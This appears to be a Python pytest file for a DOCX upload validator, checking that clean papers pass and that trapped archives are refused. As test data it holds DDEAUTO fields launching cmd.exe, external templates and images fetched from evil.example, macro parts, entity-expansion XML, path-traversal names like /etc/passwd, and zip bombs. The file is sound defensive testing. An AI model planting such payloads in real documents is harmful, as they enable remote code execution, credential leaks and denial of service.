"""The check of a DOCX paper: what is good, what is told, what is refused, and archives that are traps."""

import io
import time
import zipfile
from dataclasses import replace

import pytest

from kit.docx import document
from kit.reports import heading, prose, table
from kit.uploads import Checked, Limits, check_paper

LIMITS = Limits()
MB = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TYPES, RELS, MAIN = "[Content_Types].xml", "word/_rels/document.xml.rels", "word/document.xml"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINK = f'<Relationship Id="rX" Type="{KINDS}/{{}}" Target="{{}}"{{}}/>'
LINKS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OUTSIDE = ' TargetMode="External"'
GOOD = document("A paper", [heading("One"), prose("Words."), table(["A", "B"], [["1", "2"]])])


def parts_of(data: bytes = GOOD) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def with_(part: str, before: str, added: str) -> bytes:
    """The good paper with something put in before the last place where `before` stands."""
    parts = parts_of()
    head, mark, tail = parts[part].rpartition(before.encode())
    assert mark
    parts[part] = head + added.encode() + mark + tail
    return packed(parts)


def plus(**more: bytes) -> bytes:
    return packed(parts_of() | more)


def body(markup: str) -> bytes:
    """The good paper with more in its text."""
    return with_(MAIN, "<w:sectPr", markup)


def linked(kind: str, target: str, outside: bool = True, part: str = RELS) -> bytes:
    return with_(part, "</Relationships>", LINK.format(kind, target, OUTSIDE if outside else ""))


def check(data: bytes, name: str = "paper.docx", **limits) -> Checked:
    return check_paper(name, io.BytesIO(data), limits=replace(LIMITS, **limits))


def problem(checked: Checked) -> str:
    assert not checked
    assert len(checked.problems) == 1, checked.problems
    return checked.problems[0]


def told(checked: Checked, words: str) -> bool:
    assert checked, checked.problems
    return any(words in note for note in checked.notes)


# Good


def test_a_good_paper_has_nothing_to_be_told():
    checked = check(GOOD)
    assert checked == Checked(
        "paper.docx", "docx", len(GOOD), checked.sha256, language="en-GB", title="A paper", pages=None, tagged=None
    )
    assert checked.suffix == ".docx"
    assert checked.content_type.endswith("wordprocessingml.document")


def test_links_that_a_reader_may_follow_are_no_harm():
    assert check(linked("hyperlink", "https://www.gov.uk/"))


def test_words_that_look_like_commands_are_words():
    assert check(body("<w:p><w:r><w:t>DDEAUTO cmd and INCLUDEPICTURE and vbaProject.bin</w:t></w:r></w:p>"))


def test_fields_of_every_day_are_no_harm():
    simple = '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    assert check(body(simple + field("TOC \\o &quot;1-3&quot;") + field("HYPERLINK &quot;https://x.example&quot;")))


# Told


def test_what_readers_will_miss_is_told():
    checked = check(document("", [prose("No heading.")]))
    assert told(checked, "no title")
    assert told(checked, "heading style")


STYLE = '<w:style w:styleId="{}"><w:name w:val="{}"/><w:basedOn w:val="{}"/></w:style>'


@pytest.mark.parametrize(
    ("style", "heads"),
    [
        (STYLE.format("berschrift1", "heading 1", "Normal"), True),
        (STYLE.format("Own", "Board heading", "Heading2"), True),
        (STYLE.format("Own", "Board", "Other") + STYLE.format("Other", "x", "Heading2"), True),
        (STYLE.format("Own", "Headings and text", "Normal"), False),
        (STYLE.format("Ring", "a", "Rong") + STYLE.format("Rong", "b", "Ring"), False),
    ],
)
def test_headings_are_found_by_what_they_are_not_by_what_they_are_called(style, heads):
    """Word names a style's id in its own language, and people make styles of their own from others."""
    used = style.partition('styleId="')[2].partition('"')[0]
    parts = parts_of(document("A paper", [prose("Words.")]))
    parts[MAIN] = parts[MAIN].replace(b'w:val="Title"', f'w:val="{used}"'.encode())
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(b"</w:styles>", f"{style}</w:styles>".encode())
    assert told(check(packed(parts)), "heading style") is not heads


@pytest.mark.parametrize(("level", "heads"), [("0", True), ("9", False)])
def test_a_paragraph_may_be_a_heading_by_itself(level, heads):
    own = f'<w:p><w:pPr><w:outlineLvl w:val="{level}"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'.encode()
    parts = parts_of(document("A paper", [prose("Words.")]))
    parts[MAIN] = parts[MAIN].replace(b"<w:sectPr", own + b"<w:sectPr")
    assert told(check(packed(parts)), "heading style") is not heads


@pytest.mark.parametrize(
    ("markup", "words"),
    [
        ('<w:p><w:ins w:id="1" w:author="A"><w:r><w:t>x</w:t></w:r></w:ins></w:p>', "tracked changes"),
        ('<w:p><w:del w:id="1" w:author="A"><w:r><w:delText>x</w:delText></w:r></w:del></w:p>', "tracked changes"),
        ("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r></w:p>", "hidden text"),
    ],
)
def test_what_authors_leave_behind_is_told(markup, words):
    assert told(check(body(markup)), words)


def test_hidden_text_that_is_not_is_not_told():
    assert not told(check(body('<w:p><w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>x</w:t></w:r></w:p>')), "hidden")


def test_comments_are_told():
    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    some = f'<w:comments {word}><w:comment w:id="0" w:author="A"/></w:comments>'.encode()
    assert told(check(plus(**{"word/comments.xml": some})), "has comments")
    assert not told(check(plus(**{"word/comments.xml": f"<w:comments {word}/>".encode()})), "comments")


PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://x"><wp:docPr id="1" name="P"{}>{}</wp:docPr>'
    "</wp:inline></w:drawing></w:r></w:p>"
)


def test_a_picture_without_words_is_told():
    assert told(check(body(PICTURE.format("", ""))), "alternative text")
    assert not told(check(body(PICTURE.format(' descr="A map"', ""))), "alternative text")
    ornament = '<a:decorative xmlns:a="http://y" val="1"/>'
    assert not told(check(body(PICTURE.format("", ornament))), "alternative text")


def chart() -> dict[str, bytes]:
    link = LINK.format("package", "../embeddings/book.xlsx", "")
    return {
        "word/charts/chart1.xml": b"<c/>",
        "word/charts/_rels/chart1.xml.rels": LINKS.format(link).encode(),
        "word/embeddings/book.xlsx": b"PK",
    }


def test_the_workbook_behind_a_chart_is_told():
    assert told(check(plus(**chart())), "workbook behind it")


def test_a_workbook_that_only_pretends_to_be_behind_a_chart_is_refused():
    parts = parts_of(linked("package", "embeddings/book.xlsx", outside=False)) | chart()
    assert "has other files inside" in problem(check(packed(parts)))


# Refused


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("attachedTemplate", "fetches its template from another place"),
        ("image", "fetches a picture"),
        ("oleObject", "fetches an object"),
        ("frame", "fetches a page"),
        ("subDocument", "fetches a part of the text"),
        ("somethingNew", "fetches something"),
    ],
)
@pytest.mark.parametrize("target", ["https://evil.example/x", "file://///evil.example/share/x.dotm"])
def test_what_is_fetched_from_elsewhere_is_refused(kind, words, target):
    assert words in problem(check(linked(kind, target)))


def test_a_template_is_found_where_word_names_it():
    one = LINKS.format(LINK.format("attachedTemplate", "http://evil.example/t.dotm", ' TargetMode="external"'))
    assert "its template" in problem(check(plus(**{"word/_rels/settings.xml.rels": one.encode()})))


@pytest.mark.parametrize(
    "more",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/VBAPROJECT.BIN": b"x"},
        {"word/vbaData.xml": b"<x/>"},
    ],
)
def test_macros_are_refused(more):
    assert "has macros" in problem(check(plus(**more)))


def test_a_document_for_macros_under_another_name_is_refused():
    parts = parts_of()
    old = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert old in parts[TYPES]
    parts[TYPES] = parts[TYPES].replace(old, b"application/vnd.ms-word.document.macroEnabled.main+xml")
    assert "has macros" in problem(check(packed(parts)))
    parts[TYPES] = parts_of()[TYPES].replace(b"document.main+xml", b"template.main+xml")
    assert "a Word template" in problem(check(packed(parts)))


def test_controls_and_embedded_files_are_refused():
    assert "ActiveX" in problem(check(plus(**{"word/activeX/activeX1.xml": b"<x/>"})))
    assert "other files inside" in problem(check(plus(**{"word/embeddings/oleObject1.bin": OLE})))
    assert "other files inside" in problem(check(linked("oleObject", "elsewhere/x.bin", outside=False)))
    assert "other files inside" in problem(check(linked("aFChunk", "chunk.mht", outside=False)))


def field(instruction: str, pieces: int = 1) -> str:
    size = max(len(instruction) // pieces, 1)
    texts = [instruction[place : place + size] for place in range(0, len(instruction), size)]
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


@pytest.mark.parametrize("pieces", [1, 3, 9])
def test_a_field_that_starts_a_program_is_refused(pieces):
    assert "(DDE)" in problem(check(body(field(" DDEAUTO c:/windows/cmd.exe", pieces))))
    assert "(DDE)" in problem(check(body('<w:p><w:fldSimple w:instr=" dde cmd x"/></w:p>')))


def test_a_field_that_fetches_is_refused():
    assert "fetches a picture or text" in problem(check(body(field("INCLUDEPICTURE https://evil.example/x.png"))))


@pytest.mark.parametrize("part", [MAIN, "word/styles.xml", "word/_rels/document.xml.rels", TYPES])
def test_entities_are_refused(part):
    parts = parts_of()
    entities = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    head, mark, tail = parts[part].partition(b"?>")
    parts[part] = head + mark + entities + tail
    assert "damaged" in problem(check(packed(parts)))


@pytest.mark.parametrize("part", ["word/footnotes.xml", "customXml/item9.xml", "word/odd.rels"])
def test_what_is_no_xml_is_refused(part):
    assert "damaged" in problem(check(plus(**{part: b"<a><b></a>"})))


@pytest.mark.parametrize("part", [MAIN, "_rels/.rels"])
def test_a_document_without_its_text_is_refused(part):
    parts = parts_of()
    del parts[part]
    assert "damaged" in problem(check(packed(parts)))


@pytest.mark.parametrize(
    "name",
    ["../../etc/cron.d/x", "/etc/passwd", "word/../../x", "C:/x.exe", "..\\..\\x", "\\\\evil\\share\\x", "word\\x.xml"],
)
def test_names_that_lead_out_are_refused(name):
    assert "a name that leads out of it" in problem(check(plus(**{name: b"<x/>"})))


def test_two_parts_of_one_name_are_refused():
    assert "damaged" in problem(check(plus(**{"WORD/Document.xml": b"<x/>"})))


@pytest.mark.parametrize("share", [0.05, 0.3, 0.6, 0.9, 0.995])
def test_a_file_that_was_cut_off_is_refused(share):
    assert "damaged" in problem(check(GOOD[: int(len(GOOD) * share)]))


def test_a_changed_byte_is_noticed():
    data = packed(parts_of(), zipfile.ZIP_STORED)
    place = data.index(b"Words.")
    assert "damaged" in problem(check(data[:place] + b"S" + data[place + 1 :]))


# Traps


def test_a_flood_is_refused_before_it_is_unpacked():
    data = plus(**{"word/media/image1.bmp": bytes(250 * MB)})
    assert len(data) < MB
    began = time.monotonic()
    assert "unpacks to far more than its size" in problem(check(data))
    assert time.monotonic() - began < 2


def test_many_small_floods_are_one():
    many = {f"word/media/image{number}.bin": bytes(MB) for number in range(301)}
    assert "unpacks to far more" in problem(check(plus(**many)))


def test_too_many_parts_are_refused():
    assert "unpacks to far more" in problem(check(plus(**{f"x/{number}.bin": b"" for number in range(3001)})))


def test_a_size_that_lies_is_not_believed():
    data = bytearray(plus(**{"word/media/flood.bin": bytes(40 * MB)}))
    true, lie = (40 * MB).to_bytes(4, "little"), (1000).to_bytes(4, "little")
    assert data.count(true) == 2
    assert "damaged" in problem(check(bytes(data.replace(true, lie))))


def test_a_deep_nest_is_refused():
    assert "damaged" in problem(check(body("<w:a>" * 5000 + "</w:a>" * 5000)))


def test_a_long_text_is_read_in_time():
    long = body("".join(f"<w:p><w:r><w:t>{number**7}</w:t></w:r></w:p>" for number in range(150_000)))
    began = time.monotonic()
    assert check(long)
    assert time.monotonic() - began < 10


def test_a_text_that_takes_too_long_is_let_go():
    long = body("".join(f"<w:p><w:r><w:t>{number**7}</w:t></w:r></w:p>" for number in range(150_000)))
    assert "too much time" in problem(check(long, seconds=0))


def test_a_list_of_contents_that_is_endless_is_not_read():
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, part in parts_of().items():
            archive.writestr(name, part)
        for number in range(40):
            many = zipfile.ZipInfo(f"{number}-{'x' * 60_000}")
            archive.writestr(many, b"")
    assert "damaged" in problem(check(data.getvalue()))


def test_a_second_end_in_the_remark_does_not_hide_the_first():
    """The reader takes the last end that it finds, and so does the check."""
    data = GOOD[:-2] + (30).to_bytes(2, "little") + b"PK\x05\x06" + bytes(26)
    assert "Its content is a ZIP archive." in problem(check(data))
    assert check(GOOD[:-2] + (5).to_bytes(2, "little") + b"Hello")


def test_a_list_that_points_to_a_larger_one_is_refused():
    place = GOOD.rindex(b"PK\x05\x06")
    assert "damaged" in problem(check(GOOD[:place] + b"PK\x06\x07" + bytes(16) + GOOD[place:]))


@pytest.mark.parametrize(
    "xml",
    [
        b'<x a="' + b"a" * (8 * MB) + b'"/>',
        b"<x><!--" + b"a" * (8 * MB) + b"--></x>",
        b"<x>" + b"<Relationship/>" * 20_001 + b"</x>",
        b"<x>" + b"<Override/>" * 20_001 + b"</x>",
        b"<x>" + b'<fldChar fldCharType="begin"/>' * 20_001 + b"</x>",
        b"<x>" + b"".join(b'<pStyle val="%d"/>' % number for number in range(20_001)) + b"</x>",
    ],
    ids=["long attribute", "long remark", "links", "types", "fields", "styles"],
)
def test_what_would_fill_the_memory_is_refused(xml):
    assert "damaged" in problem(check(packed(parts_of() | {"word/x.xml": xml}), ratio=10_000))


def test_a_member_with_a_password_is_named_as_such():
    data = bytearray(GOOD)
    place = data.index(b"PK\x01\x02")
    data[place + 8] |= 1
    assert "protected by a password" in problem(check(bytes(data)))


def test_an_unusual_packing_is_refused():
    assert "damaged" in problem(check(packed(parts_of(), zipfile.ZIP_BZIP2)))
